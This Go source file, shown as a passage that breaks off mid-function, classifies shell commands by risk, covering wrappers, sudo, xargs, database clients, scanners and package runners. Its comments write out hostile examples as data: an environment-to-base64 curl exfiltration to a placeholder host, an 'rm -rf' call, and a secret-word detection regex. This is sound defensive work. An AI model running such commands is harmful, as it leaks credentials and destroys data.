package policy

import (
	"path"
	"slices"
	"strings"
)

// skipOpts returns the index of the first operand of args (args[0] is the
// command), skipping options; withValue lists the options that take the
// next word as their value. "--" ends the options.
func skipOpts(args []arg, withValue ...string) int { // at most len(args)+1: an option's value may be missing
	i := 1
	for i < len(args) {
		a := args[i]
		if !a.ok || a.s == "-" || !strings.HasPrefix(a.s, "-") {
			return i
		}
		if a.s == "--" {
			return i + 1
		}
		i++
		if !strings.Contains(a.s, "=") && contains(withValue, a.s) {
			i++
		}
	}
	return i
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

// wrapper returns a handler for commands that run the rest of their argv
// after their own options: nohup, nice, stdbuf, setsid …
func wrapper(withValue ...string) handler {
	return func(iv *inv) {
		i := skipOpts(iv.args, withValue...)
		if i < len(iv.args) {
			iv.exec(iv.args[i:])
		}
	}
}

// sudo runs its command as another user: Write itself (privilege), and the
// command is classified as usual.
func sudo(iv *inv) {
	iv.flag(Write, "")
	i := min(len(iv.args), skipOpts(iv.args, "-u", "-g", "-h", "-p", "-C", "-D", "-r", "-t", "-U", "-T", "-c",
		"--user", "--group", "--host", "--prompt", "--close-from", "--chdir", "--role", "--type", "--other-user", "--command-timeout"))
	for _, a := range iv.args[1:i] {
		if a.ok && (a.s == "-e" || a.s == "--edit") {
			return // sudoedit: edits files
		}
	}
	if i < len(iv.args) {
		iv.asRoot(iv.args[i:])
		return
	}
	if hasFlag(iv.args[1:i], "si", "--shell", "--login") { // sudo -s <<EOF: a root shell reading this stdin
		iv.asAnother("a shell", func() { iv.runStdin(func(code arg) { iv.shell(code, iv.sc) }, "commands") })
	}
}

// asRoot classifies a command run as another user.
func (iv *inv) asRoot(args []arg) {
	iv.asAnother("a command", func() { iv.exec(args) })
}

// asAnother classifies what run records, run as another user (root, as a
// rule): anything that changes something changes the machine, which is
// held; what only reads is not.
func (iv *inv) asAnother(what string, run func()) {
	first := len(iv.c.cmds)
	run()
	for j, cmd := range iv.c.cmds[first:] {
		if cmd.Class == Write && !ranAsAnotherOnlySays(cmd) && !iv.c.tidies(cmd) && !inspectsOnly(cmd) && !installsFromRepos(cmd) && !iv.givesBack(cmd) &&
			!(containerExec(cmd) && onlyRead(iv.c.cmds[first+j+1:])) {
			iv.flag(Destructive, iv.name+" runs "+what+" that changes the machine as another user: "+shorten(strings.Join(cmd.Argv, " ")))
			return
		}
	}
}

// containerExec reports whether cmd runs a command in a container (docker
// exec, podman exec, docker compose exec, kubectl exec): what it changes
// is what the command it runs changes, which is classified after it.
func containerExec(cmd Command) bool {
	if !cmd.Resolved || len(cmd.Argv) < 3 || !containerTools[path.Base(cmd.Argv[0])] {
		return false
	}
	for _, w := range cmd.Argv[1:min(len(cmd.Argv), 4)] {
		if w == "exec" {
			return true
		}
	}
	return false
}

// containerTools are the tools whose exec verb runs a command in a
// container or pod.
var containerTools = map[string]bool{"docker": true, "podman": true, "nerdctl": true, "kubectl": true, "oc": true, "crictl": true}

// onlyRead reports whether cmds are there and all only read: what a
// container exec ran (sudo docker exec app ls -la /config).
func onlyRead(cmds []Command) bool {
	return len(cmds) > 0 && !slices.ContainsFunc(cmds, func(c Command) bool { return c.Class != ReadOnly })
}

// inspectsOnly reports whether a command run as another user only
// reports on what it manages: its verb asks for a state, a list or a
// version (ufw status, snap list, wg show, zpool status, fail2ban-client
// status sshd), or it is asked only to test its configuration (nginx -t,
// sshd -t -f FILE, apachectl configtest). As root it changes nothing
// either; its neighbours (ufw disable, nginx -s stop) change the machine.
func inspectsOnly(cmd Command) bool {
	if !cmd.Resolved || len(cmd.Argv) < 2 {
		return false
	}
	if reportsOnly(cmd.Argv[1:]) || dbClients[path.Base(cmd.Argv[0])] && queriesOnly(cmd.Argv) {
		return true
	}
	return testsConfig(path.Base(cmd.Argv[0]), cmd.Argv[1:]) || probesOnly(cmd.Argv)
}

// probers send packets to hosts and print what comes back: network
// scanners and route tracers, run as root for raw sockets.
var probers = map[string]bool{"nmap": true, "masscan": true, "zmap": true, "traceroute": true, "tcptraceroute": true, "mtr": true, "arping": true}

// proberActs are the options of probers that write files (nmap -oN, -oX,
// -oA, --append-output, --resume; masscan -oX; zmap -o), run scripts
// (nmap --script, -sC, -A, which runs the default ones) or read their data
// from elsewhere (--datadir, --servicedb, --versiondb).
var proberActs = lazyRE(`^(?:-o|--(?:output|append-output|resume|script|datadir|servicedb|versiondb|stylesheet|webxml|adapter)|-s[A-Za-z]*C|-A$)`)

// probesOnly reports whether argv is a prober given none of proberActs:
// sudo nmap -sS -p- 127.0.0.1 sends probes and reads the replies; as root
// too, nothing on this machine changes.
func probesOnly(argv []string) bool {
	return probers[path.Base(argv[0])] && !slices.ContainsFunc(argv[1:], proberActs.MatchString)
}

// reportsOnly reports whether args are a verb that asks for a state, a
// list or a version, first (an option before it may be anything: ip -b
// FILE runs a batch of commands), then only what names what to report on
// and options that only shape the report; a word after it that names a
// key or secret asks for it (wg show all private-key).
func reportsOnly(args []string) bool {
	if !inspectVerbs[args[0]] && !inspectOpts[args[0]] {
		return false
	}
	for _, a := range args[1:] {
		if secretWord.MatchString(a) || strings.HasPrefix(a, "-") && !reportOpts[a] || strings.ContainsAny(a, "/=<>|;&$`") {
			return false
		}
	}
	return true
}

// reportOpts are options that only shape a report: more of it, or in JSON,
// or what is checked (nix-store --verify --check-contents, apt list
// --installed).
var reportOpts = map[string]bool{"-v": true, "--verbose": true, "-a": true, "--all": true, "-j": true, "--json": true, "--no-pager": true, "-l": true, "--long": true,
	"--check-contents": true, "--installed": true, "--upgradable": true}

// inspectOpts are the options that are a tool's verb when it asks for a
// list, a state, a version or a check of what it manages (nix-channel
// --list, nix-store --verify, nix-env --list-generations); not --check,
// which runs a configuration manager's tasks, some for real.
var inspectOpts = map[string]bool{"--list": true, "--verify": true, "--status": true, "--version": true, "--list-generations": true, "--info": true}

// secretWord is a word that names a key or secret to report.
var secretWord = lazyRE(`(?i)key|secret|passw|token|credential|psk|shadow|authid`)

// testsConfig reports whether a daemon is asked only to test its
// configuration and exit, by the option that means that for it (nginx -t,
// sshd -t, haproxy -c), given only the files it is to test.
func testsConfig(name string, args []string) bool {
	ct, ok := configTests[name]
	if !ok {
		return false
	}
	test := false
	for i := 0; i < len(args); i++ {
		switch a := args[i]; {
		case slices.Contains(ct.tests, a):
			test = true
		case slices.Contains(ct.valued, a) && i+1 < len(args) && !strings.HasPrefix(args[i+1], "-"):
			i++ // nginx -t -c /etc/nginx/nginx.conf: the configuration tested
		case a == "-q" || a == "--quiet":
		default:
			return false
		}
	}
	return test
}

// queriesOnly reports whether a database client's argv gives it only
// queries that read (listsOnly: psql -c '\l', mysql -e 'SHOW
// DATABASES'), or asks psql only to list the databases (psql -l), with
// no option but those that say where to connect and how to print: an
// option it does not know may write a file (psql -o, -L, mysql --tee),
// run a script (-f) or another statement (mysql --init-command).
func queriesOnly(argv []string) bool {
	client, ok := clientOpts[path.Base(argv[0])]
	if !ok {
		return false
	}
	queried, list := false, false
	for i := 1; i < len(argv); i++ {
		a := argv[i]
		opt, val, eq := strings.Cut(a, "=")
		switch {
		case (a == client.query || opt == client.longQuery && !eq) && i+1 < len(argv):
			if !listsOnly(argv[i+1]) {
				return false
			}
			queried = true
			i++
		case eq && opt == client.longQuery:
			if !listsOnly(val) {
				return false
			}
			queried = true
		case a == "-l" || a == "--list":
			list = client.query == "-c"
		case !strings.HasPrefix(a, "-"):
			// the database, or psql's user
		case strings.HasPrefix(a, "--") && eq:
			if !slices.Contains(client.valued, opt) {
				return false
			}
		case slices.Contains(client.valued, a) && i+1 < len(argv):
			i++
		case len(a) > 2 && a[1] != '-' && (slices.Contains(client.valued, a[:2]) || a[:2] == client.optional):
			// -uroot, -hdb, mysql's -pSECRET: the value glued on
		case !slices.Contains(client.flags, a) && !flagGroup(a, client.flags):
			return false
		}
	}
	return queried || list
}

// flagGroup reports whether word is short options grouped (psql -At),
// each among flags.
func flagGroup(word string, flags []string) bool {
	if len(word) < 3 || word[0] != '-' || word[1] == '-' {
		return false
	}
	for _, c := range word[1:] {
		if !slices.Contains(flags, "-"+string(c)) {
			return false
		}
	}
	return true
}

// clientOpts are, for the database clients run as another user that are
// judged by their queries, the option that gives a query and the options
// that only say where to connect or how to print (with a value or not).
var clientOpts = map[string]struct {
	query, longQuery string
	valued, flags    []string
	optional         string // a short option whose value may be glued on, or not given
}{
	"psql": {"-c", "--command",
		[]string{"-U", "--username", "-d", "--dbname", "-h", "--host", "-p", "--port", "-F", "--field-separator", "-R", "--record-separator", "-v", "--set", "--variable"},
		[]string{"-w", "--no-password", "-W", "--password", "-X", "--no-psqlrc", "-A", "--no-align", "-t", "--tuples-only", "-q", "--quiet", "-x", "--expanded", "-H", "--html", "--csv", "-a", "--echo-all", "-e", "--echo-queries", "-E", "--echo-hidden", "-b", "--echo-errors", "-n", "--no-readline", "-1", "--single-transaction", "-z", "-0"}, ""},
	"mysql": mysqlOpts, "mariadb": mysqlOpts,
}

// mysqlOpts are mysql's entries in clientOpts.
var mysqlOpts = struct {
	query, longQuery string
	valued, flags    []string
	optional         string // a short option whose value may be glued on, or not given
}{"-e", "--execute",
	[]string{"-u", "--user", "-h", "--host", "-P", "--port", "-D", "--database", "-S", "--socket", "--protocol", "--default-character-set", "--ssl-mode", "--password"},
	[]string{"-p", "-B", "--batch", "-N", "--skip-column-names", "-s", "--silent", "-t", "--table", "-r", "--raw", "-E", "--vertical", "-v", "--verbose", "-A", "--no-auto-rehash", "--column-names", "-X", "--xml", "-H", "--html", "-C", "--compress"}, "-p"}

// inspectVerbs are the verbs by which a tool reports on what it manages.
var inspectVerbs = map[string]bool{"status": true, "show": true, "list": true, "ls": true, "info": true, "version": true, "configtest": true, "validate": true, "certificates": true, "verify": true}

// configTests are, for the daemons that have one, the options by which
// they test their configuration and exit (nginx -t, -T printing it too;
// sshd -t; apachectl -t or configtest; haproxy -c; php-fpm -t), and those
// that name the configuration tested. The same letters mean other things
// to other programs: e2fsck -t, fsck -T.
var configTests = func() map[string]struct{ tests, valued []string } {
	type ct = struct{ tests, valued []string }
	nginx := ct{[]string{"-t", "-T", "-tq", "-qt"}, []string{"-c", "-p"}}
	apache := ct{[]string{"-t", "configtest", "-configtest", "-S"}, []string{"-f", "-d"}}
	return map[string]ct{
		"nginx": nginx, "openresty": nginx, "sshd": {[]string{"-t", "-T"}, []string{"-f", "-C"}},
		"apachectl": apache, "apache2ctl": apache, "httpd": apache, "apache2": apache,
		"haproxy": {[]string{"-c"}, []string{"-f"}},
		"php-fpm": {[]string{"-t", "-tt", "--test"}, []string{"-c", "-y", "--fpm-config"}},
		"dnsmasq": {[]string{"--test"}, []string{"-C", "--conf-file"}},
	}
}()

// shownArgs is a command line for a reason, cut.
func shownArgs(args []arg) string {
	var parts []string
	for _, a := range args {
		parts = append(parts, a.shown())
	}
	return shorten(strings.Join(parts, " "))
}

// env runs a command with a changed environment, or prints it.
func env(iv *inv) {
	args := iv.args
	i := 1
	for i < len(args) {
		a := args[i]
		switch {
		case !a.ok && isAssignment(a.src) && (varKind(a.src[:strings.IndexByte(a.src, '=')]) == varPlain || iv.passedOn(a.src)):
			// HOME="$X", PATH="$PATH": a value computed at run time, of a
			// variable that runs nothing or keeps the value it has,
			// changes no word of the command.
		case !a.ok:
			iv.flag(Unparseable, "env argument computed at run time: "+a.shown())
			return
		case a.s == "--":
			i++
		case a.s == "-S" || a.s == "--split-string":
			// The string is split into words like a shell would.
			if i+1 < len(args) {
				iv.shell(joinRest(args[i+1:]), iv.sc)
			}
			return
		case strings.HasPrefix(a.s, "--split-string=") || (strings.HasPrefix(a.s, "-S") && len(a.s) > 2):
			s := strings.TrimPrefix(strings.TrimPrefix(a.s, "--split-string="), "-S")
			iv.shell(joinRest(append(argsOf(s), args[i+1:]...)), iv.sc)
			return
		case a.s == "-u" || a.s == "--unset" || a.s == "-C" || a.s == "--chdir" || a.s == "-P":
			if a.s == "-C" || a.s == "--chdir" {
				iv.sc = iv.sc.sub()
				iv.sc.cwd = ""
			}
			i += 2
			continue
		case strings.HasPrefix(a.s, "--chdir=") || strings.HasPrefix(a.s, "-") && !strings.HasPrefix(a.s, "--") && strings.Contains(a.s[1:], "C"):
			iv.sc = iv.sc.sub() // env --chdir=DIR, -CDIR, -iC DIR: the command runs elsewhere
			iv.sc.cwd = ""
			if strings.HasSuffix(a.s, "C") {
				i++
			}
		case strings.HasPrefix(a.s, "-"):
		case strings.Contains(a.s, "="):
			name, val, _ := strings.Cut(a.s, "=")
			if varKind(name) != varPlain {
				iv.flag(Write, "")
			}
			if varKind(name) == varCode {
				iv.shell(arg{s: val, ok: true, src: val}, iv.sc)
				if strings.HasSuffix(name, "ASKPASS") {
					iv.helperProgram(name, val)
				}
			}
		default:
			iv.exec(args[i:])
			return
		}
		i++
	}
	// No command: prints the environment.
}

// passedOn reports whether an assignment given to env (NAME="$NAME") sets
// a variable to the value it has, which the script does not set itself.
func (iv *inv) passedOn(src string) bool {
	name, val, _ := strings.Cut(src, "=")
	val = strings.Trim(val, `"`)
	return (val == "$"+name || val == "${"+name+"}") && strings.Count(iv.c.whole, name+"=") == 1
}

// joinRest joins args into one shell string, quoting known words.
func joinRest(args []arg) arg {
	parts := make([]string, 0, len(args))
	for _, a := range args {
		if !a.ok {
			return arg{src: a.src}
		}
		parts = append(parts, a.s)
	}
	s := strings.Join(parts, " ")
	return arg{s: s, ok: true, src: s}
}

// timeout DURATION COMMAND.
func timeout(iv *inv) {
	i := skipOpts(iv.args, "-s", "--signal", "-k", "--kill-after")
	if i+1 < len(iv.args) {
		iv.exec(iv.args[i+1:])
	}
}

// command -v/-V only looks a name up; otherwise it runs the command.
func command(iv *inv) {
	i := skipOpts(iv.args)
	for _, a := range iv.args[1:i] {
		if a.ok && (strings.Contains(a.s, "v") || strings.Contains(a.s, "V")) {
			return
		}
	}
	if i < len(iv.args) {
		iv.exec(iv.args[i:])
	}
}

// xargs runs its command with words read from stdin appended (or put in
// place of the -I string); those words are unknown, unless stdin is text
// known here (printf '%s\n' ~/a ~/b | xargs rm), whose words are split as
// xargs splits them.
func xargs(iv *inv) {
	args := iv.args
	repl := ""
	split := "blanks" // how items are split: at blanks and newlines, quotes honoured; at NULs (-0); unknown (-d, -a, -E)
	i := 1
	for i < len(args) {
		a := args[i]
		if !a.ok || !strings.HasPrefix(a.s, "-") || a.s == "-" {
			break
		}
		i++
		if a.s == "--" {
			break
		}
		switch {
		case a.s == "-I" || a.s == "--replace":
			if i < len(args) {
				repl = args[i].s
				i++
			}
		case strings.HasPrefix(a.s, "-I"):
			repl = a.s[2:]
		case strings.HasPrefix(a.s, "--replace="):
			repl = strings.TrimPrefix(a.s, "--replace=")
		case a.s == "-i":
			repl = "{}"
		case strings.HasPrefix(a.s, "-i"):
			repl = a.s[2:]
		case contains([]string{"-a", "-d", "-E", "-L", "-n", "-P", "-s", "--arg-file", "--delimiter",
			"--eof", "--max-lines", "--max-args", "--max-procs", "--max-chars", "--process-slot-var"}, a.s):
			i++
		}
		switch {
		case contains([]string{"-a", "-d", "-E", "-e"}, a.s) || strings.HasPrefix(a.s, "--arg-file") ||
			strings.HasPrefix(a.s, "--delimiter") || strings.HasPrefix(a.s, "--eof") || (a.s[1] != '-' && strings.ContainsAny(a.s[1:], "adEe")):
			split = ""
		case split != "" && (a.s == "--null" || a.s[1] != '-' && strings.Contains(a.s[1:], "0")):
			split = "nul"
		}
	}
	cmd := argsOf("echo")
	if i < len(args) {
		cmd = args[i:]
	}
	item := stdinItem(iv.in)
	if iv.in.kind == srcPaths { // find DIR … | xargs rm: the items are under DIR
		item = named(under(arg{s: iv.in.text, ok: true, src: iv.in.text}, !iv.in.every), iv.in.pattern)
	}
	for j := 1; j+1 < i; j++ {
		if f := args[j+1]; (args[j].s == "-a" || args[j].s == "--arg-file") && f.ok && f.item { // xargs -a <(git ls-files -z) rm
			item = f
		}
	}
	if iv.in.kind == srcPipe && (iv.in.text == ownPids || iv.in.text == jobListing) { // jobs -p | xargs kill; squeue -u $USER … | xargs scancel
		item = arg{src: iv.in.text, item: true}
	}
	if words := stdinItems(iv.in, split, repl != ""); words != nil {
		if repl == "" {
			iv.c.run(append(cmd[:len(cmd):len(cmd)], argsOf(words...)...), iv.sc, source{}, iv.depth+1)
			return
		}
		for _, w := range words {
			run, _ := replaceIn(cmd, repl, arg{s: w, ok: true, src: w})
			iv.c.run(run, iv.sc, source{}, iv.depth+1)
		}
		return
	}
	iv.agedItems(cmd) // find . -newer f -print0 | xargs -0 rm
	if repl != "" {
		cmd, _ = replaceIn(cmd, repl, item)
	} else {
		cmd = append(cmd[:len(cmd):len(cmd)], item)
	}
	iv.c.run(cmd, iv.sc, source{}, iv.depth+1)
}

// secretItems marks the items xargs or parallel reads from the
// environment or a secrets file, through whatever filters (printenv | gzip
// | base64 | xargs -I{} curl "https://x/?d={}"): a network tool given one
// sends them.
const secretItems = "<secret items from stdin>"

// testContainerItems marks the items xargs reads from a listing of the
// containers a test framework labelled as its own (testLabelled).
const testContainerItems = "<test containers from stdin>"

// stdinItem is the unknown item xargs or parallel puts in its command for
// what it reads from in.
func stdinItem(in source) arg {
	if in.kind == srcSecret {
		return arg{src: secretItems, item: true}
	}
	if in.testContainers {
		return arg{src: testContainerItems, item: true}
	}
	return arg{src: "<items from stdin>", item: true}
}

// stdinItems are the items xargs reads from in, split as split says, when
// in is text known here that xargs takes as written: no $ or ` (a
// heredoc's text is as written, before the shell expands it), no quotes or
// backslashes when split at blanks (xargs interprets them), and at most 64
// items. Items are words, or lines with -I, or NUL-ended with -0.
// Otherwise nil: the items are unknown.
func stdinItems(in source, split string, lines bool) []string {
	if in.kind != srcText || split == "" || strings.ContainsAny(in.text, "$`") ||
		split == "blanks" && strings.ContainsAny(in.text, "'\"\\") {
		return nil
	}
	var words []string
	switch {
	case split == "nul":
		for _, w := range strings.Split(in.text, "\x00") {
			if w != "" {
				words = append(words, w)
			}
		}
	case lines:
		for _, l := range strings.Split(in.text, "\n") {
			if l = strings.TrimLeft(l, " \t"); l != "" {
				words = append(words, l)
			}
		}
	default:
		words = strings.Fields(in.text)
	}
	if len(words) == 0 || len(words) > 64 {
		return nil
	}
	return words
}

// parallel runs its command once per input (after :::), or the inputs
// themselves as commands when no command is given.
func parallel(iv *inv) {
	args := iv.args
	i := skipOpts(args, "-j", "--jobs", "-n", "-N", "-L", "-P", "-S", "--sshlogin", "-a", "--arg-file",
		"--joblog", "--results", "-I", "--delay", "--timeout", "--retries", "--tagstring", "--colsep",
		"-C", "-d", "--halt", "--memfree", "--load", "--workdir", "--env")
	if dryRun(iv.name, args[1:min(i, len(args))]) {
		return
	}
	var cmd, inputs []arg
	fromStdin := true
	for j := i; j < len(args); j++ {
		a := args[j]
		if a.ok && strings.HasPrefix(a.s, ":::") {
			fromStdin = false
			if a.s == "::::" || a.s == "::::+" {
				inputs = append(inputs, arg{src: "<items from a file>"})
				j++
			}
			continue
		}
		if fromStdin {
			cmd = append(cmd, a)
		} else {
			inputs = append(inputs, a)
		}
	}
	if fromStdin {
		inputs = []arg{stdinItem(iv.in)}
		iv.agedItems(cmd) // find . -mtime -1 | parallel rm
	}
	for _, in := range inputs {
		if len(cmd) == 0 {
			iv.shell(in, iv.sc)
			continue
		}
		if len(cmd) == 1 && cmd[0].ok && in.ok && strings.ContainsAny(cmd[0].s, " \t;|&") { // parallel 'shellcheck {}' ::: a.sh
			line := strings.ReplaceAll(cmd[0].s, "{}", in.s)
			iv.shell(arg{s: line, ok: true, src: line}, iv.sc)
			continue
		}
		// parallel hands the line to a shell; known words are passed as is.
		iv.c.run(substitute(cmd, "{}", in), iv.sc, source{}, iv.depth+1)
	}
}

// exec replaces the shell with its command; alone it only redirects.
func execBuiltin(iv *inv) {
	i := skipOpts(iv.args, "-a")
	if i < len(iv.args) {
		iv.exec(iv.args[i:])
	}
}

// time runs its command (the /usr/bin/time binary; the keyword is parsed).
func timeCmd(iv *inv) {
	i := skipOpts(iv.args, "-f", "--format", "-o", "--output")
	if i < len(iv.args) {
		iv.exec(iv.args[i:])
	}
}

// watch runs its arguments through sh -c repeatedly.
func watch(iv *inv) {
	i := skipOpts(iv.args, "-n", "--interval", "-d", "-g", "--chgexit", "-q", "--equexit")
	if i < len(iv.args) {
		iv.shell(joinRest(iv.args[i:]), iv.sc)
	}
}

// tend run [opts] [--] CMD runs CMD as a job of the running tend, or
// directly when none runs: one operand is a shell command line, several
// are a command. tend setup writes an agent's settings; the other
// subcommands read, or serve.
func tendRun(iv *inv) {
	if len(iv.args) < 2 || !iv.args[1].ok || iv.args[1].s != "run" {
		if len(iv.args) > 1 && iv.args[1].s == "setup" {
			iv.flag(Write, "")
		}
		return
	}
	rest := iv.args[1:]
	i := skipOpts(rest, "-state-dir", "--state-dir", "-as", "--as", "-session", "--session")
	switch {
	case i == len(rest)-1:
		iv.shell(rest[i], iv.sc)
	case i < len(rest):
		iv.exec(rest[i:])
	}
}

// flock [opts] file command…, or flock [opts] file -c 'code'.
func flock(iv *inv) {
	args := iv.args
	// flock [options] file -c command, or flock [options] file command
	// [arguments]: -c is flock's among its options or right after the
	// file; after the command it is the command's own (psql … -c SQL).
	i := skipOpts(args, "-w", "--timeout", "-E", "--conflict-exit-code", "-c", "--command")
	for j := 1; j < i; j++ {
		if a := args[j]; a.ok && (a.s == "-c" || a.s == "--command") && j+1 < len(args) {
			iv.shell(args[j+1], iv.sc)
			return
		}
	}
	if i+2 < len(args) && args[i+1].ok && (args[i+1].s == "-c" || args[i+1].s == "--command") {
		iv.shell(args[i+2], iv.sc)
		return
	}
	if i+1 < len(args) {
		iv.exec(args[i+1:])
	}
}

// busybox APPLET args.
func busybox(iv *inv) {
	if len(iv.args) > 1 {
		iv.exec(iv.args[1:])
	}
}

// chrootCmd: chroot DIR command.
func chrootCmd(iv *inv) {
	iv.flag(Write, "")
	i := skipOpts(iv.args, "--userspec", "--groups")
	if i+1 < len(iv.args) {
		sc := iv.sc.sub()
		sc.cwd = ""
		iv.c.run(iv.args[i+1:], sc, iv.in, iv.depth+1)
	}
}

// su [opts] [user] [-c code]: the code is re-parsed; without it su starts
// a shell.
func su(iv *inv) {
	iv.flag(Write, "")
	args := iv.args
	for i, a := range args {
		if a.ok && a.s == "--" && i+1 < len(args) && iv.name == "runuser" {
			iv.asRoot(args[i+1:]) // runuser -u user -- command
			return
		}
		if a.ok && (a.s == "-c" || a.s == "--command") && i+1 < len(args) {
			iv.asAnother("code", func() { iv.shell(args[i+1], iv.sc) })
		} else if a.ok && strings.HasPrefix(a.s, "--command=") {
			iv.shell(arg{s: strings.TrimPrefix(a.s, "--command="), ok: true, src: a.s}, iv.sc)
		}
	}
}

// taskset [opts] MASK command, and chrt [opts] PRIORITY command.
func taskset(iv *inv) {
	i := skipOpts(iv.args)
	if i+1 < len(iv.args) {
		iv.exec(iv.args[i+1:])
	}
}

// script [opts] [-c code] [file]: the code is re-parsed (script -qc 'code'
// too); without it script starts a shell.
func scriptCmd(iv *inv) {
	iv.flag(Write, "")
	args := iv.args
	for i, a := range args {
		switch {
		case !a.ok || i+1 >= len(args):
		case a.s == "-c" || a.s == "--command",
			strings.HasPrefix(a.s, "-") && !strings.HasPrefix(a.s, "--") && strings.HasSuffix(a.s, "c"):
			iv.shell(args[i+1], iv.sc)
			return
		}
		if a.ok && strings.HasPrefix(a.s, "--command=") {
			iv.shell(arg{s: strings.TrimPrefix(a.s, "--command="), ok: true, src: a.s}, iv.sc)
			return
		}
	}
}

// npx runs a package's command, or with -c a shell command line. A
// package from the registry is fetched as npm install fetches it (--yes
// only skips the question), and what it is told to do is judged; one
// from a URL or a repository is code no registry vouches for.
func npx(iv *inv) {
	args := iv.args
	for i, a := range args[1:] {
		pkg := false
		if v, ok := strings.CutPrefix(a.s, "--package="); ok {
			a, pkg = arg{s: v, ok: a.ok}, true
		} else if i > 0 && (args[i].s == "-p" || args[i].s == "--package") {
			pkg = true // -p's value
		} else if !strings.HasPrefix(a.s, "-") {
			pkg = true // the first operand; the words after it are the package's
		}
		if pkg && a.ok && sourceURL(a.s) {
			iv.flag(Destructive, iv.name+" runs a package from a URL or a repository, not a registry: "+a.s)
			break
		}
		if pkg && !strings.HasPrefix(a.s, "-") && (i == 0 || args[i].s != "-p" && args[i].s != "--package") {
			break
		}
	}
	for i, a := range args {
		if a.ok && (a.s == "-c" || a.s == "--call") && i+1 < len(args) {
			iv.shell(args[i+1], iv.sc)
			return
		}
	}
	wrapper("-p", "--package")(iv)
}

// commandRunner is a tool whose subcommand runs a command it is given, in
// an environment it prepares (a virtualenv, a toolchain, secrets loaded
// into the environment): the command is judged as if run directly.
type commandRunner struct {
	verbs     []string // the subcommands that run it ("" for the tool itself: env-cmd, cross-env)
	values    []string // options that take the next word as their value
	skip      int      // operands before the command (direnv exec DIR, aws-vault exec PROFILE)
	shellOpts []string // options whose value is a shell command line (npm exec -c, doppler run --command)
	shellArg  bool     // the command is one operand, a shell command line (sops exec-env FILE 'cmd')
	argvOpts  []string // options after which the rest is the command (nix develop -c cmd …)
	dashdash  bool     // the command comes only after -- (mise exec node@20 -- cmd)
}

var commandRunners = map[string]commandRunner{
	"npm":    {verbs: []string{"exec", "x"}, values: []string{"-p", "--package", "-w", "--workspace"}, shellOpts: []string{"-c", "--call"}},
	"pnpm":   {verbs: []string{"exec", "dlx"}, values: []string{"-p", "--package", "--filter", "-F", "-C", "--dir"}, shellOpts: []string{"-c", "--shell-mode"}},
	"yarn":   {verbs: []string{"exec", "dlx"}, values: []string{"-p", "--package"}},
	"bun":    {verbs: []string{"x"}, values: []string{"-p", "--package"}},
	"poetry": {verbs: []string{"run"}, values: []string{"-C", "--directory", "-P", "--project"}},
	"uv":     {verbs: []string{"run"}, values: []string{"--with", "--python", "-p", "--package", "--env-file", "--extra", "--group", "--directory", "--project", "--from", "--index", "--with-requirements", "--only-group"}},
	"uvx": {verbs: []string{""}, values: []string{"--from", "--with", "--with-editable", "--with-requirements", "--python", "-p", "--index", "--default-index",
		"--index-url", "-i", "--extra-index-url", "--find-links", "-f", "--constraints", "-c", "--overrides", "--env-file", "--directory", "--project"}},
	"pipx":       {verbs: []string{"run"}, values: []string{"--spec", "--python", "--pip-args", "--index-url", "-i", "--backend", "--fetch-missing-python"}},
	"pipenv":     {verbs: []string{"run"}},
	"pdm":        {verbs: []string{"run"}, values: []string{"-p", "--project"}},
	"hatch":      {verbs: []string{"run"}, values: []string{"-e", "--env"}},
	"pixi":       {verbs: []string{"run", "exec"}, values: []string{"-e", "--environment", "--manifest-path"}},
	"rye":        {verbs: []string{"run"}},
	"bundle":     {verbs: []string{"exec"}},
	"conda":      {verbs: []string{"run"}, values: []string{"-n", "--name", "-p", "--prefix", "--cwd"}},
	"mamba":      {verbs: []string{"run"}, values: []string{"-n", "--name", "-p", "--prefix", "--cwd"}},
	"micromamba": {verbs: []string{"run"}, values: []string{"-n", "--name", "-p", "--prefix", "--cwd"}},
	"devbox":     {verbs: []string{"run"}, values: []string{"-c", "--config"}},
	"direnv":     {verbs: []string{"exec"}, skip: 1},
	"pyenv":      {verbs: []string{"exec"}},
	"rbenv":      {verbs: []string{"exec"}},
	"nodenv":     {verbs: []string{"exec"}},
	"asdf":       {verbs: []string{"exec"}},
	"dotenv":     {verbs: []string{""}, values: []string{"-e", "-c", "-v"}},
	"dotenvx":    {verbs: []string{"run"}, values: []string{"-f", "--env-file", "-e", "--env"}},
	"env-cmd":    {verbs: []string{""}, values: []string{"-f", "--file", "-e", "--environments", "-r", "--rc-file"}},
	"cross-env":  {verbs: []string{""}},
	"op":         {verbs: []string{"run"}, values: []string{"--env-file", "--account"}},
	"doppler":    {verbs: []string{"run"}, values: []string{"-p", "--project", "-c", "--config", "--token"}, shellOpts: []string{"--command"}},
	"infisical":  {verbs: []string{"run"}, values: []string{"--env", "--path", "--projectId", "--token"}, shellOpts: []string{"--command"}},
	"aws-vault":  {verbs: []string{"exec"}, values: []string{"--duration", "-d", "--region", "--mfa-token", "-t"}, skip: 1},
	"sops":       {verbs: []string{"exec-env", "exec-file"}, skip: 1, shellArg: true},
	"nix":        {verbs: []string{"develop", "shell"}, argvOpts: []string{"-c", "--command"}, dashdash: true},
	"mise":       {verbs: []string{"exec", "x"}, dashdash: true},
	"flox":       {verbs: []string{"activate"}, dashdash: true},
}

// runsGiven judges the command a runner of commandRunners is given and
// reports whether it found one: after --, or after the runner's options
// and operands (poetry run pytest, conda run -n x cmd, direnv exec . cmd).
func runsGiven(iv *inv) bool {
	r, ok := commandRunners[iv.name]
	if !ok {
		return false
	}
	args := iv.rest(1)
	i := 0
	if !contains(r.verbs, "") {
		for i < len(args) && args[i].ok && strings.HasPrefix(args[i].s, "-") { // the tool's own options before the verb
			i++
		}
		if i >= len(args) || !args[i].ok || !contains(r.verbs, args[i].s) {
			return false
		}
		i++
	}
	skip := r.skip
	for ; i < len(args); i++ {
		a := args[i]
		if !a.ok {
			break
		}
		name, val, eq := strings.Cut(a.s, "=")
		switch {
		case a.s == "--" || contains(r.argvOpts, a.s):
			i++
		case r.dashdash:
			continue
		case contains(r.shellOpts, name):
			if !eq && i+1 < len(args) {
				iv.shell(args[i+1], iv.sc) // npm exec -c 'rm -rf …'
			} else if eq {
				iv.shell(arg{s: val, ok: true, src: val}, iv.sc)
			}
			return true
		case strings.HasPrefix(a.s, "-"):
			if !eq && contains(r.values, a.s) {
				i++
			}
			continue
		case skip > 0:
			skip--
			continue
		case isAssignment(a.s):
			continue // cross-env NODE_ENV=production cmd
		}
		break
	}
	if i >= len(args) {
		return true
	}
	if r.shellArg || i == len(args)-1 && args[i].ok && strings.ContainsRune(args[i].s, ' ') && parses(args[i].s) {
